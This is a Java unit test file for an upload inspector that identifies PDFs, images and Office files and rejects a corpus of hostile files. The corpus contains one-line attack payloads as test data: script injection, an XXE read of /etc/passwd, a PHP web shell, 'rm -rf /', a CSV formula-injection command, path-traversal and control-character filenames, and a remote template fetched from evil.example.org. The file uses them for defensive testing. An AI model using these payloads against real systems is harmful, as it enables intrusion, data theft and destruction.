package org.zhibu.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.zhibu.document.SampleFiles.docxParts;
import static org.zhibu.document.SampleFiles.joined;
import static org.zhibu.document.SampleFiles.pdf;
import static org.zhibu.document.SampleFiles.pdfWithAction;
import static org.zhibu.document.SampleFiles.pdfWithEntry;
import static org.zhibu.document.SampleFiles.picture;
import static org.zhibu.document.SampleFiles.with;
import static org.zhibu.document.SampleFiles.xlsxParts;
import static org.zhibu.document.SampleFiles.xml;
import static org.zhibu.document.SampleFiles.zip;

import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.zhibu.kernel.RuleViolation;

/** What may be kept with a case, and a corpus of files that may not. */
class InspectionTest {

    private static final byte[] NOTHING = {};

    static Stream<Arguments> papers() {
        return Stream.of(
                Arguments.of(FileKind.PDF, pdf()),
                Arguments.of(FileKind.JPEG, picture("jpg", 40, 20)),
                Arguments.of(FileKind.PNG, picture("png", 40, 20)),
                Arguments.of(FileKind.DOCX, zip(docxParts())),
                Arguments.of(
                        FileKind.DOCX,
                        with(
                                docxParts(),
                                "word/_rels/document.xml.rels",
                                xml(
                                        "<R><Relationship Type=\"http://schemas.example.org/hyperlink\" Target=\"http://www.example.org\""
                                                + " TargetMode=\"External\"/></R>"))),
                Arguments.of(FileKind.XLSX, zip(xlsxParts())));
    }

    @ParameterizedTest
    @MethodSource("papers")
    void papersAreToldByTheirContent(FileKind kind, byte[] file) {
        assertThat(Inspection.of(file).kind()).isEqualTo(kind);
    }

    @ParameterizedTest
    @ValueSource(ints = {1, 2, 3, 4, 5, 6, 7, 8})
    void aPhotographIsTurnedUprightAndForgetsItsPlace(int orientation) throws IOException {
        var kept = Inspection.of(SampleFiles.photograph(orientation)).content();

        assertThat(new String(kept, StandardCharsets.ISO_8859_1)).doesNotContain("GPS", "Exif");
        var image = ImageIO.read(new ByteArrayInputStream(kept));
        assertThat(image.getWidth() > image.getHeight()).isEqualTo(orientation < 5);
        assertThat(whereRedIs(image))
                .isEqualTo(List.of("left", "right", "right", "left", "top", "top", "bottom", "bottom")
                        .get(orientation - 1));
    }

    private static String whereRedIs(BufferedImage image) {
        if (image.getWidth() > image.getHeight()) {
            return isRed(image, image.getWidth() / 4, image.getHeight() / 2) ? "left" : "right";
        }
        return isRed(image, image.getWidth() / 2, image.getHeight() / 4) ? "top" : "bottom";
    }

    private static boolean isRed(BufferedImage image, int x, int y) {
        var color = new Color(image.getRGB(x, y));
        return color.getRed() > color.getBlue();
    }

    @Test
    void whatHidesBehindAPictureIsNotKept() {
        var kept =
                Inspection.of(joined(picture("png", 40, 20), zip(docxParts()))).content();

        assertThat(new String(kept, StandardCharsets.ISO_8859_1)).doesNotContain("PK");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void nothingHostilePasses(String what, byte[] file) {
        var refusal = catchThrowable(() -> Inspection.of(file));

        assertThat(refusal).as(what).isInstanceOf(RuleViolation.class);
        assertThat(((RuleViolation) refusal).remedy()).isNotBlank();
    }

    static Stream<Arguments> corpus() {
        var corpus = new LinkedHashMap<String, byte[]>();
        corpus.put("nothing at all", NOTHING);
        markup(corpus);
        programs(corpus);
        archives(corpus);
        pdfs(corpus);
        pictures(corpus);
        documents(corpus);
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(60);
        return corpus.entrySet().stream().map(each -> Arguments.of(each.getKey(), each.getValue()));
    }

    private static void markup(Map<String, byte[]> corpus) {
        for (var text : List.of(
                "<html><script>alert(1)</script></html>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>",
                "{\\rtf1 \\object}",
                "MIME-Version: 1.0\r\nContent-Type: multipart/related",
                "GIF89a/*<script>*/=1;",
                "<?php system($_GET['c']);",
                "#!/bin/sh\nrm -rf /",
                "plain text",
                "a,b\r\n=cmd|'/c calc'!A0,1",
                " %PDF-1.7 behind a blank",
                "<!-- %PDF-1.7 -->")) {
            corpus.put(text, text.getBytes(StandardCharsets.UTF_8));
        }
    }

    private static void programs(Map<String, byte[]> corpus) {
        corpus.put("a program for Windows", joined(new byte[] {'M', 'Z', (byte) 0x90, 0}, new byte[100]));
        corpus.put("a program for Linux", joined(new byte[] {0x7F, 'E', 'L', 'F'}, new byte[100]));
        corpus.put("a class", joined(new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE}, new byte[100]));
        corpus.put("an old document", joined(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0}, new byte[600]));
        corpus.put("a bitmap", joined(new byte[] {'B', 'M'}, new byte[100]));
        corpus.put("a TIFF", joined(new byte[] {'I', 'I', 42, 0}, new byte[100]));
        corpus.put("a WebP", "RIFF0000WEBPVP8 ".getBytes(StandardCharsets.US_ASCII));
        corpus.put("a gzip", joined(new byte[] {0x1F, (byte) 0x8B}, new byte[100]));
        corpus.put("a 7z", joined(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF}, new byte[100]));
        corpus.put("a rar", "Rar!\u001A\u0007".getBytes(StandardCharsets.ISO_8859_1));
    }

    private static void archives(Map<String, byte[]> corpus) {
        corpus.put("a zip of a page", zip(Map.of("index.html", "<html/>".getBytes(StandardCharsets.UTF_8))));
        corpus.put("a jar", zip(Map.of("META-INF/MANIFEST.MF", NOTHING, "A.class", NOTHING)));
        corpus.put("a presentation", zip(Map.of(SampleFiles.TYPES, xml("<T/>"), "ppt/presentation.xml", xml("<p/>"))));
        corpus.put("an OpenDocument", zip(Map.of("mimetype", NOTHING, "content.xml", xml("<o/>"))));
        corpus.put("the head of a zip", new byte[] {'P', 'K', 3, 4, 0});
        corpus.put("a zip without its content types", zip(Map.of("word/document.xml", xml("<d/>"))));
    }

    private static void pdfs(Map<String, byte[]> corpus) {
        for (var action : List.of("JavaScript", "Launch")) {
            corpus.put("a PDF that does " + action, pdfWithAction(action));
        }
        for (var entry : List.of("JavaScript", "JS", "EmbeddedFiles", "RichMedia", "XFA")) {
            corpus.put("a PDF with " + entry, pdfWithEntry(entry));
        }
        corpus.put("a PDF with a password", SampleFiles.pdfWithPassword());
        corpus.put("a PDF that is a zip, too", joined(pdf(), zip(docxParts())));
        corpus.put("a PDF cut off", Arrays.copyOf(pdf(), pdf().length / 2));
        corpus.put("a PDF without an end", joined(pdf(), new byte[2_000]));
        corpus.put("only the head of a PDF", "%PDF-1.7\n%%EOF".getBytes(StandardCharsets.US_ASCII));
        corpus.put(
                "a PDF of references in a circle",
                "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
                        .getBytes(StandardCharsets.US_ASCII));
        corpus.put(
                "a PDF with HTML in it",
                joined("%PDF-1.7\n<html><script>".getBytes(StandardCharsets.US_ASCII), new byte[50]));
    }

    private static void pictures(Map<String, byte[]> corpus) {
        var jpeg = picture("jpg", 40, 20);
        var png = picture("png", 40, 20);
        corpus.put("the head of a JPEG", Arrays.copyOf(jpeg, 20));
        corpus.put("the head of a PNG", Arrays.copyOf(png, 20));
        corpus.put("a PNG cut off", Arrays.copyOf(png, 45));
        corpus.put(
                "a JPEG of a script", joined(Arrays.copyOf(jpeg, 4), "<script>".getBytes(StandardCharsets.US_ASCII)));
        corpus.put("a PNG that claims to be large", claiming(png, 60_000, 60_000));
        corpus.put("a PNG that claims to be long", claiming(png, 100_000, 1));
        corpus.put("a PNG that claims to be nothing", claiming(png, 0, 0));
        corpus.put("a PNG that claims too much", claiming(png, Integer.MAX_VALUE, Integer.MAX_VALUE));
    }

    /** The size stands at fixed places of a PNG; its checksum is right. */
    private static byte[] claiming(byte[] png, int width, int height) {
        var bytes = java.nio.ByteBuffer.wrap(png.clone());
        bytes.putInt(16, width).putInt(20, height);
        var sum = new java.util.zip.CRC32();
        sum.update(bytes.array(), 12, 17);
        return bytes.putInt(29, (int) sum.getValue()).array();
    }

    private static void documents(Map<String, byte[]> corpus) {
        for (var parts : List.of(docxParts(), xlsxParts())) {
            var kind = parts.containsKey("xl/workbook.xml") ? "workbook" : "document";
            var folder = kind.equals("workbook") ? "xl/" : "word/";
            for (var part : List.of(
                    "vbaProject.bin", "activeX/activeX1.bin", "embeddings/oleObject1.bin", "embeddings/a.xlsx")) {
                corpus.put("a %s with %s".formatted(kind, part), with(parts, folder + part, new byte[10]));
            }
            corpus.put(
                    "a %s with macros by its type".formatted(kind),
                    with(parts, folder + "a.xml", xml("<a b=\"macroEnabled\"/>")));
            corpus.put(
                    "a %s with a document type".formatted(kind),
                    with(parts, folder + "a.xml", xml("<!DOCTYPE a><a/>")));
            corpus.put("a %s that leaves its folder".formatted(kind), with(parts, "../../etc/passwd", NOTHING));
            corpus.put("a %s at the root".formatted(kind), with(parts, "/etc/passwd", NOTHING));
            corpus.put("a %s with a backslash".formatted(kind), with(parts, "a\\b", NOTHING));
            corpus.put(
                    "a %s that unpacks to 200 MB".formatted(kind),
                    with(parts, folder + "media/a.bmp", new byte[200 << 20]));
            corpus.put("a %s of a thousand parts".formatted(kind), zip(many(parts)));
            corpus.put(
                    "a %s that fetches its template".formatted(kind),
                    with(
                            parts,
                            folder + "_rels/settings.xml.rels",
                            xml(
                                    "<R><Relationship Type=\"http://x/attachedTemplate\" Target=\"http://evil.example.org/t.dotm\""
                                            + " TargetMode=\"External\"/></R>")));
        }
        corpus.put(
                "a workbook with external links", with(xlsxParts(), "xl/externalLinks/externalLink1.xml", xml("<e/>")));
    }

    private static Map<String, byte[]> many(Map<String, byte[]> parts) {
        var many = new LinkedHashMap<>(parts);
        for (var i = 0; i < 1_001; i++) {
            many.put("a" + i + ".bin", NOTHING);
        }
        return many;
    }

    @Test
    void aNameIsShownButIsNeverAPath() {
        var names = new ArrayList<String>();
        for (var name : List.of(
                "../../etc/passwd",
                "谈话\u0000记录.pdf",
                "a\r\nSet-Cookie: x.pdf",
                "\u202Efdp.exe",
                ".htaccess",
                "C:\\a.pdf")) {
            names.add(new NewAttachment("S", "K", name).displayName());
        }

        assertThat(names)
                .allSatisfy(name -> assertThat(name)
                        .doesNotContainPattern("[/\\\\\\p{Cntrl}\u202E:]")
                        .doesNotStartWith("."));
    }
}
